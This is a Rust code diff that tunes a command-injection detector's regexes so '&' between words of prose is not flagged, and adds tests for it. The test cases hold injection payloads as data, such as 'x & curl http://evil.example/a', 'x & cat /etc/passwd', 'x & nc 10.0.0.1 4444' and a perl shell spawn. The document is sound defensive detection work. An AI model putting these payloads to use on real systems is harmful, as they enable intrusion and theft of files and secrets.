@@ -462,9 +462,25 @@ impl Cmdi {
         let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{arg}");
         // Between two pipes, words are a table's cell (`| date |`, `| file size |`), so a command
         // after a pipe needs an argument shape of its own.
-        let strong_after_sep = format!("{}|{}", command_after(r"(?:;|&&|&|\$\(|<\(|\|\|)", &arg("|;&")), command_after(r"\|", &arg(";&")));
+        // `&` between spaces joins two words of prose (`Filter & Sort`, `Python & Ruby`, `time &
+        // date`): there a command needs an argument shape of its own, not just the end of the
+        // value; glued to either side (`x&id`, `x &id`) it is a shell's.
+        let glued_amp = r"(?:^|[^\s&])&";
+        let in_line = arg("|;&");
+        let in_line = in_line.strip_suffix(r"|\s*$)").map(|a| format!("{a})")).unwrap_or(in_line.clone());
+        let strong_after_sep = format!(
+            r"{}|{}|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{}|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{in_line}",
+            command_after(&format!(r"(?:;|&&|{glued_amp}|\$\(|<\(|\|\|)"), &arg("|;&")),
+            command_after(r"\|", &arg(";&")),
+            arg("|;&"),
+        );
         let strong_on_a_line = command_after(r"[\n\r]", &arg("|;&"));
-        let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
+        // After a spaced `&` a dangerous command needs an argument shaped like a host, a path, a
+        // URL or an option, or to be a reconnaissance command ending the value (`x & whoami`).
+        let probes = PROBES.join("|");
+        let any_after_sep = format!(
+            r#"(?:[;|\n\r]|&&|{glued_amp}|\$\(|<\(|\|\|)\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s*[;|&)]|\s+[-/$~.<>'"\\]|\s+\S*[./:\\]\S*)|\s&\s+(?:{probes})(?:\.exe)?\s*$"#
+        );
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
         // it is how a shell line is typed; prose puts the space after the punctuation.
@@ -969,6 +985,29 @@ mod tests {
         assert!(!any_flag_in_json("wget https://example.com/release.zip"));
         for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
             assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn a_spaced_ampersand_joins_words_of_prose() {
+        for v in ["Python & Ruby developers", "time & date", "Filter & Sort", "Cut & Copy", "Search & Find", "Java & PHP", "Relax & Sleep", "Shop & More", "Name & ID"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        for v in [
+            "x & whoami",
+            "127.0.0.1 & ping -n 5 127.0.0.1",
+            "a & ping 10.0.0.1",
+            "x & python exploit.py",
+            "x & curl http://evil.example/a",
+            "x & cat /etc/passwd",
+            "x & nc 10.0.0.1 4444",
+            "x&id",
+            "x &id",
+            "x& id",
+            "x & date; x",
+            "x & perl -e 'exec q(sh)'",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
         }
     }
 
